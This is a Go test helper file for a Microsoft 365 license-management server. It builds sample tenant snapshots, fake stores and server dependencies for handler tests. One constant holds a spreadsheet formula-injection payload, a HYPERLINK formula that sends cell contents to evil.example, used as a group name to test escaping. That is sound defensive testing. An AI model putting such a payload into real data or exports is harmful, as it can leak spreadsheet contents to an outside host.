package server

import (
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"

	"github.com/tenantdesk/tenantdesk/internal/alerts"
	"github.com/tenantdesk/tenantdesk/internal/assign"
	"github.com/tenantdesk/tenantdesk/internal/auth"
	"github.com/tenantdesk/tenantdesk/internal/auth/authtest"
	"github.com/tenantdesk/tenantdesk/internal/graphtest"
	"github.com/tenantdesk/tenantdesk/internal/health"
	"github.com/tenantdesk/tenantdesk/internal/jobs"
	"github.com/tenantdesk/tenantdesk/internal/licensereport"
	"github.com/tenantdesk/tenantdesk/internal/live"
	"github.com/tenantdesk/tenantdesk/internal/model"
	"github.com/tenantdesk/tenantdesk/internal/permissions"
	"github.com/tenantdesk/tenantdesk/internal/sspr"
	"github.com/tenantdesk/tenantdesk/internal/store"
	"github.com/tenantdesk/tenantdesk/internal/store/storetest"
	"github.com/tenantdesk/tenantdesk/internal/templates"
)

// testTenantID is the directory id of the test servers' tenant.
const testTenantID = "0e0e0e0e-0000-4000-8000-00000000000e"

// testNow is the clock of every test server: the snapshot below is 5 minutes old.
var testNow = time.Date(2026, 3, 4, 10, 5, 0, 0, time.UTC)

// Real SKU ids from the reference material.
const (
	skuStudents = "314c4481-f395-4525-be8b-2ec4bb1e9d91"
	skuFaculty  = "94763226-9b3c-4e75-a931-5c89701abe66"
	skuE5       = "06ebc4ee-1bb5-47dd-8120-11324bc54e06"
	skuDefender = "3dd6cf57-d688-4eed-ba52-9e40b5468c3e"
	planTeams   = "57ff2da0-773e-42df-b2af-ffb7a2317929"
	planExo     = "efb87545-963c-4e0d-99df-69c6916d9eb0"

	groupA1      = "0a1a1a1a-0000-4000-8000-000000000001"
	groupHostile = "0b0b0b0b-0000-4000-8000-000000000002"
	groupStaff   = "0c0c0c0c-0000-4000-8000-000000000003"
	hostileName  = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	fillerGroups = 120
)

func fillerID(i int) string { return fmt.Sprintf("f%07d-0000-4000-8000-%012d", i, i) }

// testSnapshot is a small tenant: the A1 students/faculty group with users in CountViolation
// (faculty) and Other (students), a group with a formula-injection name that is still queued,
// a dynamic E5 group, and filler groups for paging.
func testSnapshot() model.Snapshot {
	snap := model.Snapshot{
		TakenAt: testNow.Add(-5 * time.Minute),
		SKUs: []model.SKU{
			{ID: skuStudents, PartNumber: "STANDARDWOFFPACK_STUDENT", AppliesTo: "User", CapabilityStatus: "Enabled",
				ConsumedUnits: 900, Prepaid: model.PrepaidUnits{Enabled: 1000}},
			{ID: skuFaculty, PartNumber: "STANDARDWOFFPACK_FACULTY", AppliesTo: "User", CapabilityStatus: "Enabled",
				ConsumedUnits: 500, Prepaid: model.PrepaidUnits{Enabled: 500}},
			{ID: skuE5, PartNumber: "SPE_E5", AppliesTo: "User", CapabilityStatus: "Enabled",
				ConsumedUnits: 95, Prepaid: model.PrepaidUnits{Enabled: 100},
				ServicePlans: []model.ServicePlan{{ID: planTeams, Name: "TEAMS1", AppliesTo: "User"},
					{ID: planExo, Name: "EXCHANGE_S_ENTERPRISE", AppliesTo: "User"}}},
			{ID: skuDefender, PartNumber: "THREAT_INTELLIGENCE", AppliesTo: "User", CapabilityStatus: "Warning",
				ConsumedUnits: 10, Prepaid: model.PrepaidUnits{Enabled: 0, Warning: 25}},
		},
		Groups: []model.Group{
			{ID: groupA1, DisplayName: "A1 Students and Faculty", SecurityEnabled: true,
				ProcessingState:  model.ProcessingComplete,
				AssignedLicenses: []model.AssignedLicense{{SKUID: skuStudents}, {SKUID: skuFaculty}}},
			{ID: groupHostile, DisplayName: hostileName, SecurityEnabled: true, ProcessingState: model.ProcessingQueued,
				AssignedLicenses: []model.AssignedLicense{{SKUID: skuE5, DisabledPlans: []string{planTeams}}}},
			{ID: groupStaff, DisplayName: "Staff E5 (dynamic)", SecurityEnabled: true,
				GroupTypes:       []string{"DynamicMembership"},
				MembershipRule:   `user.department -eq "Staff"`,
				ProcessingState:  model.ProcessingComplete,
				AssignedLicenses: []model.AssignedLicense{{SKUID: skuE5}}},
		},
		MemberCounts: map[string]model.MemberCounts{
			groupA1: {All: 7, Users: 6}, groupHostile: {All: 2, Users: 2}, groupStaff: {All: 40, Users: 40},
		},
	}
	for i := range fillerGroups {
		id := fillerID(i)
		snap.Groups = append(snap.Groups, model.Group{ID: id, DisplayName: fmt.Sprintf("Filler %03d", i),
			SecurityEnabled: true, ProcessingState: model.ProcessingComplete,
			AssignedLicenses: []model.AssignedLicense{{SKUID: skuStudents}}})
		snap.MemberCounts[id] = model.MemberCounts{All: i, Users: i}
	}
	for i := range 3 { // in error in the A1 group: faculty out of units, students blocked by it
		snap.Users = append(snap.Users, model.User{
			ID: fmt.Sprintf("a0000000-0000-4000-8000-%012d", i), DisplayName: fmt.Sprintf("Student %d", i),
			UserPrincipalName: fmt.Sprintf("s%d@school.example", i), AccountEnabled: true, UsageLocation: "DE",
			LicenseStates: []model.LicenseState{
				{SKUID: skuFaculty, AssignedByGroup: groupA1, State: model.StateError, Error: model.ErrorCountViolation},
				{SKUID: skuStudents, AssignedByGroup: groupA1, State: model.StateError, Error: model.ErrorOther},
			}})
	}
	snap.Users = append(snap.Users, model.User{ID: "a0000000-0000-4000-8000-000000000099", DisplayName: "Fine User",
		AccountEnabled: true, AssignedLicenses: []model.AssignedLicense{{SKUID: skuE5}},
		LicenseStates: []model.LicenseState{{SKUID: skuE5, AssignedByGroup: groupStaff, State: model.StateActive}}})
	return snap
}

// testCatalog gives friendly names to some SKUs and plans; Defender is left out so its name
// falls back to the part number.
func testCatalog() []model.Product {
	return []model.Product{
		{SKUID: skuStudents, PartNumber: "STANDARDWOFFPACK_STUDENT", DisplayName: "Office 365 A1 for students"},
		{SKUID: skuFaculty, PartNumber: "STANDARDWOFFPACK_FACULTY", DisplayName: "Office 365 A1 for faculty"},
		{SKUID: skuE5, PartNumber: "SPE_E5", DisplayName: "Microsoft 365 E5", Plans: []model.PlanName{
			{PlanID: planTeams, Name: "TEAMS1", FriendlyName: "Microsoft Teams"},
			{PlanID: planExo, Name: "EXCHANGE_S_ENTERPRISE", FriendlyName: "Exchange Online (Plan 2)"},
		}},
	}
}

// openStore opens a real store in a temp dir; with snap it is saved as the current snapshot.
func openStore(t testing.TB, snap *model.Snapshot) *store.Store {
	t.Helper()
	ctx := context.Background()
	st := storetest.Open(t)
	st.Now = func() time.Time { return testNow }
	if err := st.ReplaceProductCatalog(ctx, testCatalog(), "test", testNow); err != nil {
		t.Fatal(err)
	}
	if snap != nil {
		if err := st.SaveSnapshot(ctx, 0, *snap); err != nil {
			t.Fatal(err)
		}
	}
	return st
}

// fakeSyncer records Start calls and reports a fixed progress.
type fakeSyncer struct {
	mu       sync.Mutex
	starts   int
	ctxs     []context.Context
	running  bool
	progress model.SyncProgress
}

func (f *fakeSyncer) Start(ctx context.Context) bool {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.starts++
	f.ctxs = append(f.ctxs, ctx)
	if f.running {
		return false
	}
	f.running = true
	return true
}

func (f *fakeSyncer) Progress() model.SyncProgress {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.progress
}

// fakeStore is a Store whose methods tests set one by one; unset methods answer ErrNotFound
// like a store before its first sync.
type fakeStore struct {
	groupReport func(model.GroupReportQuery) (model.GroupReportPage, error)
	eachRow     func(model.GroupReportQuery, func(model.GroupReportRow) error) error
	groupDetail func(string) (model.GroupDetail, error)
	overview    func() (model.Overview, error)
	current     func() (model.SnapshotInfo, error)
	latestRun   func() (model.SyncRun, error)
	ping        func() error
}

var errFakeNotFound = fmt.Errorf("fake: %w", model.ErrNotFound)

func (f *fakeStore) GroupReport(_ context.Context, q model.GroupReportQuery) (model.GroupReportPage, error) {
	if f.groupReport == nil {
		return model.GroupReportPage{}, errFakeNotFound
	}
	return f.groupReport(q)
}

func (f *fakeStore) EachGroupReportRow(_ context.Context, q model.GroupReportQuery, fn func(model.GroupReportRow) error) error {
	if f.eachRow == nil {
		return errFakeNotFound
	}
	return f.eachRow(q, fn)
}

// DataVersion of a fake store: its data is made up per call, so nothing may be kept.
func (f *fakeStore) DataVersion(context.Context) (string, error) { return "", errFakeNotFound }

func (f *fakeStore) GroupDetail(_ context.Context, id string) (model.GroupDetail, error) {
	if f.groupDetail == nil {
		return model.GroupDetail{}, errFakeNotFound
	}
	return f.groupDetail(id)
}

func (f *fakeStore) Overview(context.Context) (model.Overview, error) {
	if f.overview == nil {
		return model.Overview{}, errFakeNotFound
	}
	return f.overview()
}

func (f *fakeStore) CurrentSnapshot(context.Context) (model.SnapshotInfo, error) {
	if f.current == nil {
		return model.SnapshotInfo{}, errFakeNotFound
	}
	return f.current()
}

func (f *fakeStore) LatestSyncRun(context.Context) (model.SyncRun, error) {
	if f.latestRun == nil {
		return model.SyncRun{}, errFakeNotFound
	}
	return f.latestRun()
}

func (f *fakeStore) Ping(context.Context) error {
	if f.ping == nil {
		return nil
	}
	return f.ping()
}

func (f *fakeStore) UsersInErrorForGroup(context.Context, string) ([]model.User, error) {
	return nil, errFakeNotFound
}
func (f *fakeStore) UsersDisabledForGroup(context.Context, string) ([]model.User, error) {
	return nil, errFakeNotFound
}
func (f *fakeStore) UsersInError(context.Context) ([]model.User, error) { return nil, errFakeNotFound }
func (f *fakeStore) DisabledAccountHolders(context.Context, []string) (map[string]int, error) {
	return nil, errFakeNotFound
}
func (f *fakeStore) User(context.Context, string) (model.User, error) {
	return model.User{}, errFakeNotFound
}
func (f *fakeStore) SearchUsers(context.Context, string, int, int) (model.UserSearchResult, error) {
	return model.UserSearchResult{}, errFakeNotFound
}
func (f *fakeStore) SearchLicensedUsers(context.Context, string, int, int) (model.UserSearchResult, error) {
	return model.UserSearchResult{}, errFakeNotFound
}
func (f *fakeStore) SKUs(context.Context) ([]model.SKUUsage, error)          { return nil, errFakeNotFound }
func (f *fakeStore) ProductCatalog(context.Context) ([]model.Product, error) { return nil, nil }
func (f *fakeStore) Groups(context.Context, []string) (map[string]model.GroupInfo, error) {
	return nil, errFakeNotFound
}

// allPermissions grants the app every Graph permission tenantdesk uses.
func allPermissions(context.Context) ([]string, error) {
	return []string{permissions.OrganizationRead, permissions.GroupRead, permissions.UserRead, permissions.AuditLogRead,
		permissions.LicenseAssignment, permissions.UserReadWrite}, nil
}

// testDeps are a server's dependencies for handler tests, every one an explicit double or a real
// part over doubles: st; requests signed in as a LicenseAdmin (authtest.RoleHeader picks another
// role); an activity recorder; a fake syncer; live reads and operations over dir, a fake Graph,
// with every permission granted (operations need a real store: over a fakeStore they refuse);
// IP lookup without data.
func testDeps(t testing.TB, st Store, dir *graphtest.Graph) Deps {
	t.Helper()
	return testDepsGranted(t, st, dir, allPermissions)
}

// testDepsGranted are testDeps with the Graph permissions granted read by fetch.
func testDepsGranted(t testing.TB, st Store, dir *graphtest.Graph, fetch permissions.Fetch) Deps {
	t.Helper()
	if dir == nil {
		dir = graphtest.New()
	}
	now := func() time.Time { return testNow }
	perms, err := permissions.NewChecker(fetch, now, nil)
	if err != nil {
		t.Fatal(err)
	}
	var ops Operations = refusingOps{}
	var kinds []jobs.Kind
	if as, ok := st.(assign.Store); ok {
		svc, err := assign.New(dir, as, perms, now, nil)
		if err != nil {
			t.Fatal(err)
		}
		ops, kinds = svc, svc.JobKinds()
	}
	var tpl Templates = refusingTemplates{}
	if ts, ok := st.(templates.Store); ok {
		act, _ := st.(templates.ActivityLog)
		if act == nil {
			act = &activityRecorder{}
		}
		members, _ := ops.(templates.Members)
		if members == nil {
			members = refusingMembers{}
		}
		if tpl, err = templates.New(&graphtest.Templates{Graph: dir, Groups: map[string]model.Group{}, Counts: map[string]model.MemberCounts{}},
			ts, members, act, perms, now, nil); err != nil {
			t.Fatal(err)
		}
	}
	lv, err := live.New(dir, now)
	if err != nil {
		t.Fatal(err)
	}
	ip := ipService(t, false)
	verifier, err := sspr.New(sspr.Deps{Users: []sspr.UserSource{st, dir}, Audits: dir, Roles: dir, IP: ip,
		TenantID: func(context.Context) (string, error) { return testTenantID, nil }, Now: now})
	if err != nil {
		t.Fatal(err)
	}
	var report LicenseReport = refusingReport{}
	if rs, ok := st.(licensereport.Store); ok {
		if report, err = licensereport.New(rs, now); err != nil {
			t.Fatal(err)
		}
	}
	act := &activityRecorder{}
	var hs Health = refusingHealth{}
	if hst, ok := st.(health.Store); ok {
		if hs, err = health.New(hst, act, now); err != nil {
			t.Fatal(err)
		}
	}
	var alertData AlertData = noAlerts{}
	var alertConfig AlertConfig = noAlerts{}
	if ast, ok := st.(*store.Store); ok { // the real engine and configurator over the real store
		eng, err := alerts.New(ast, ast, nil)
		if err != nil {
			t.Fatal(err)
		}
		eng.Now = now
		if alertConfig, err = alerts.NewConfigurator(ast, act, eng); err != nil {
			t.Fatal(err)
		}
		alertData = ast
	}
	deps := Deps{Store: st, Activity: act, Syncer: &fakeSyncer{}, Auth: authtest.SignedIn(auth.RoleLicenseAdmin),
		Operations: ops, Templates: tpl, Live: lv, IP: ip, Licenses: report, Health: hs, SSPR: verifier,
		AlertData: alertData, AlertConfig: alertConfig, Now: now, Version: "test", Logger: slogText(io.Discard)}
	withJobs(t, &deps, st, kinds...)
	return deps
}

// withJobs gives deps a running job manager over st (a real store; over a fakeStore, a store of
// its own) recording in deps.Activity as it is now: call it again after replacing that.
func withJobs(t testing.TB, deps *Deps, st Store, kinds ...jobs.Kind) {
	t.Helper()
	js, ok := st.(*store.Store)
	if !ok {
		js = storetest.Open(t)
	}
	act, ok := deps.Activity.(jobs.Activity)
	if !ok {
		act = js
	}
	m, err := jobs.New(js, act, nil, kinds...)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { m.Run(ctx); close(done) }()
	t.Cleanup(func() { cancel(); <-done })
	for deadline := time.Now().Add(5 * time.Second); !m.Running() && time.Now().Before(deadline); {
		time.Sleep(time.Millisecond)
	}
	deps.Jobs = m
}

// waitJob waits for the job a POST sent the browser to (its Location) to finish, and returns
// the job page's location.
func waitJob(t testing.TB, h http.Handler, loc, role string) string {
	t.Helper()
	if !strings.HasPrefix(loc, jobsPath+"/") {
		t.Fatalf("redirect to %q, not to a job", loc)
	}
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(5 * time.Millisecond) {
		res := do(t, h, "GET", loc+"/progress", http.Header{"X-Test-Role": {role}})
		if res.StatusCode != http.StatusOK {
			t.Fatalf("progress of %s: %d %s", loc, res.StatusCode, res.body)
		}
		if strings.Contains(res.body, `"finished":true`) {
			return loc
		}
	}
	t.Fatalf("job %s did not finish", loc)
	return loc
}

// noAlerts are the alerts of servers over a fakeStore: none, and no changes.
type noAlerts struct{}

func (noAlerts) AlertChannels(context.Context) ([]model.AlertChannel, error) { return nil, nil }
func (noAlerts) RemovedAlertChannel(context.Context, int64) (string, error) {
	return "", &model.NotFoundError{What: "alert channel"}
}
func (noAlerts) AlertRuleSettings(context.Context) (map[string]model.AlertRuleSettings, error) {
	return nil, nil
}
func (noAlerts) AlertHistory(context.Context, model.AlertHistoryQuery) (model.AlertHistoryPage, error) {
	return model.AlertHistoryPage{}, nil
}
func (noAlerts) LastAlertTests(context.Context) (map[int64]model.AlertDeliveryRecord, error) {
	return nil, nil
}
func (noAlerts) AddChannel(context.Context, alerts.ChannelInput) (model.AlertChannel, error) {
	return model.AlertChannel{}, errNoOps
}
func (noAlerts) SetChannel(context.Context, alerts.ChannelChange) error     { return errNoOps }
func (noAlerts) SetRule(context.Context, alerts.RuleChange) error           { return errNoOps }
func (noAlerts) RemoveChannel(context.Context, int64, model.Activity) error { return errNoOps }
func (noAlerts) ConfiguredBy(string) (string, bool)                         { return "", false }
func (noAlerts) SendTest(context.Context, int64, model.Activity) (model.AlertDelivery, error) {
	return model.AlertDelivery{}, errNoOps
}

// refusingHealth is license health for servers over a fakeStore: no data yet.
type refusingHealth struct{ Health }

func (refusingHealth) Report(context.Context, health.Options) (health.Report, error) {
	return health.Report{}, errFakeNotFound
}

// refusingReport is the license report of servers over a fakeStore: no data yet.
type refusingReport struct{ LicenseReport }

func (refusingReport) Summaries(context.Context) ([]licensereport.Summary, error) {
	return nil, errFakeNotFound
}

// refusingTemplates is template management for servers over a fakeStore.
type refusingTemplates struct{ Templates }

// refusingMembers re-reads nobody.
type refusingMembers struct{}

func (refusingMembers) RefreshGroupMembers(context.Context, string) (assign.Result, error) {
	return assign.Result{}, errNoOps
}

// refusingOps are operations for servers over a fakeStore, which cannot be patched.
type refusingOps struct{}

var errNoOps = errors.New("test: no operations over a fake store")

func (refusingOps) ReprocessBlocked(context.Context) string { return "" }
func (refusingOps) ReprocessGroupJob(context.Context, string, string, assign.Selection) (jobs.Spec, error) {
	return jobs.Spec{}, errNoOps
}
func (refusingOps) RefreshErrorsJob(context.Context, string, string) (jobs.Spec, error) {
	return jobs.Spec{}, errNoOps
}
func (refusingOps) ReprocessUsersJob(context.Context, []string) (jobs.Spec, error) {
	return jobs.Spec{}, errNoOps
}

// newServer builds a Server over st (testDeps) with a log captured in logs.
func newServer(t testing.TB, st Store, sy Syncer, logs io.Writer) *Server {
	t.Helper()
	deps := testDeps(t, st, nil)
	if sy != nil {
		deps.Syncer = sy
	}
	if logs != nil {
		deps.Logger = slogText(logs)
	}
	s, err := New(deps)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// response is a finished request.
type response struct {
	*http.Response
	body string
}

// do runs one request through the full handler.
func do(t testing.TB, h http.Handler, method, target string, header http.Header) response {
	t.Helper()
	req := httptest.NewRequest(method, target, nil)
	for k, v := range header {
		req.Header[k] = v
	}
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	res := rec.Result()
	b, _ := io.ReadAll(res.Body)
	return response{Response: res, body: string(b)}
}

// doc parses an HTML response.
func (r response) doc(t testing.TB) *goquery.Document {
	t.Helper()
	d, err := goquery.NewDocumentFromReader(strings.NewReader(r.body))
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func slogText(w io.Writer) *slog.Logger {
	return slog.New(slog.NewTextHandler(w, &slog.HandlerOptions{Level: slog.LevelDebug}))
}
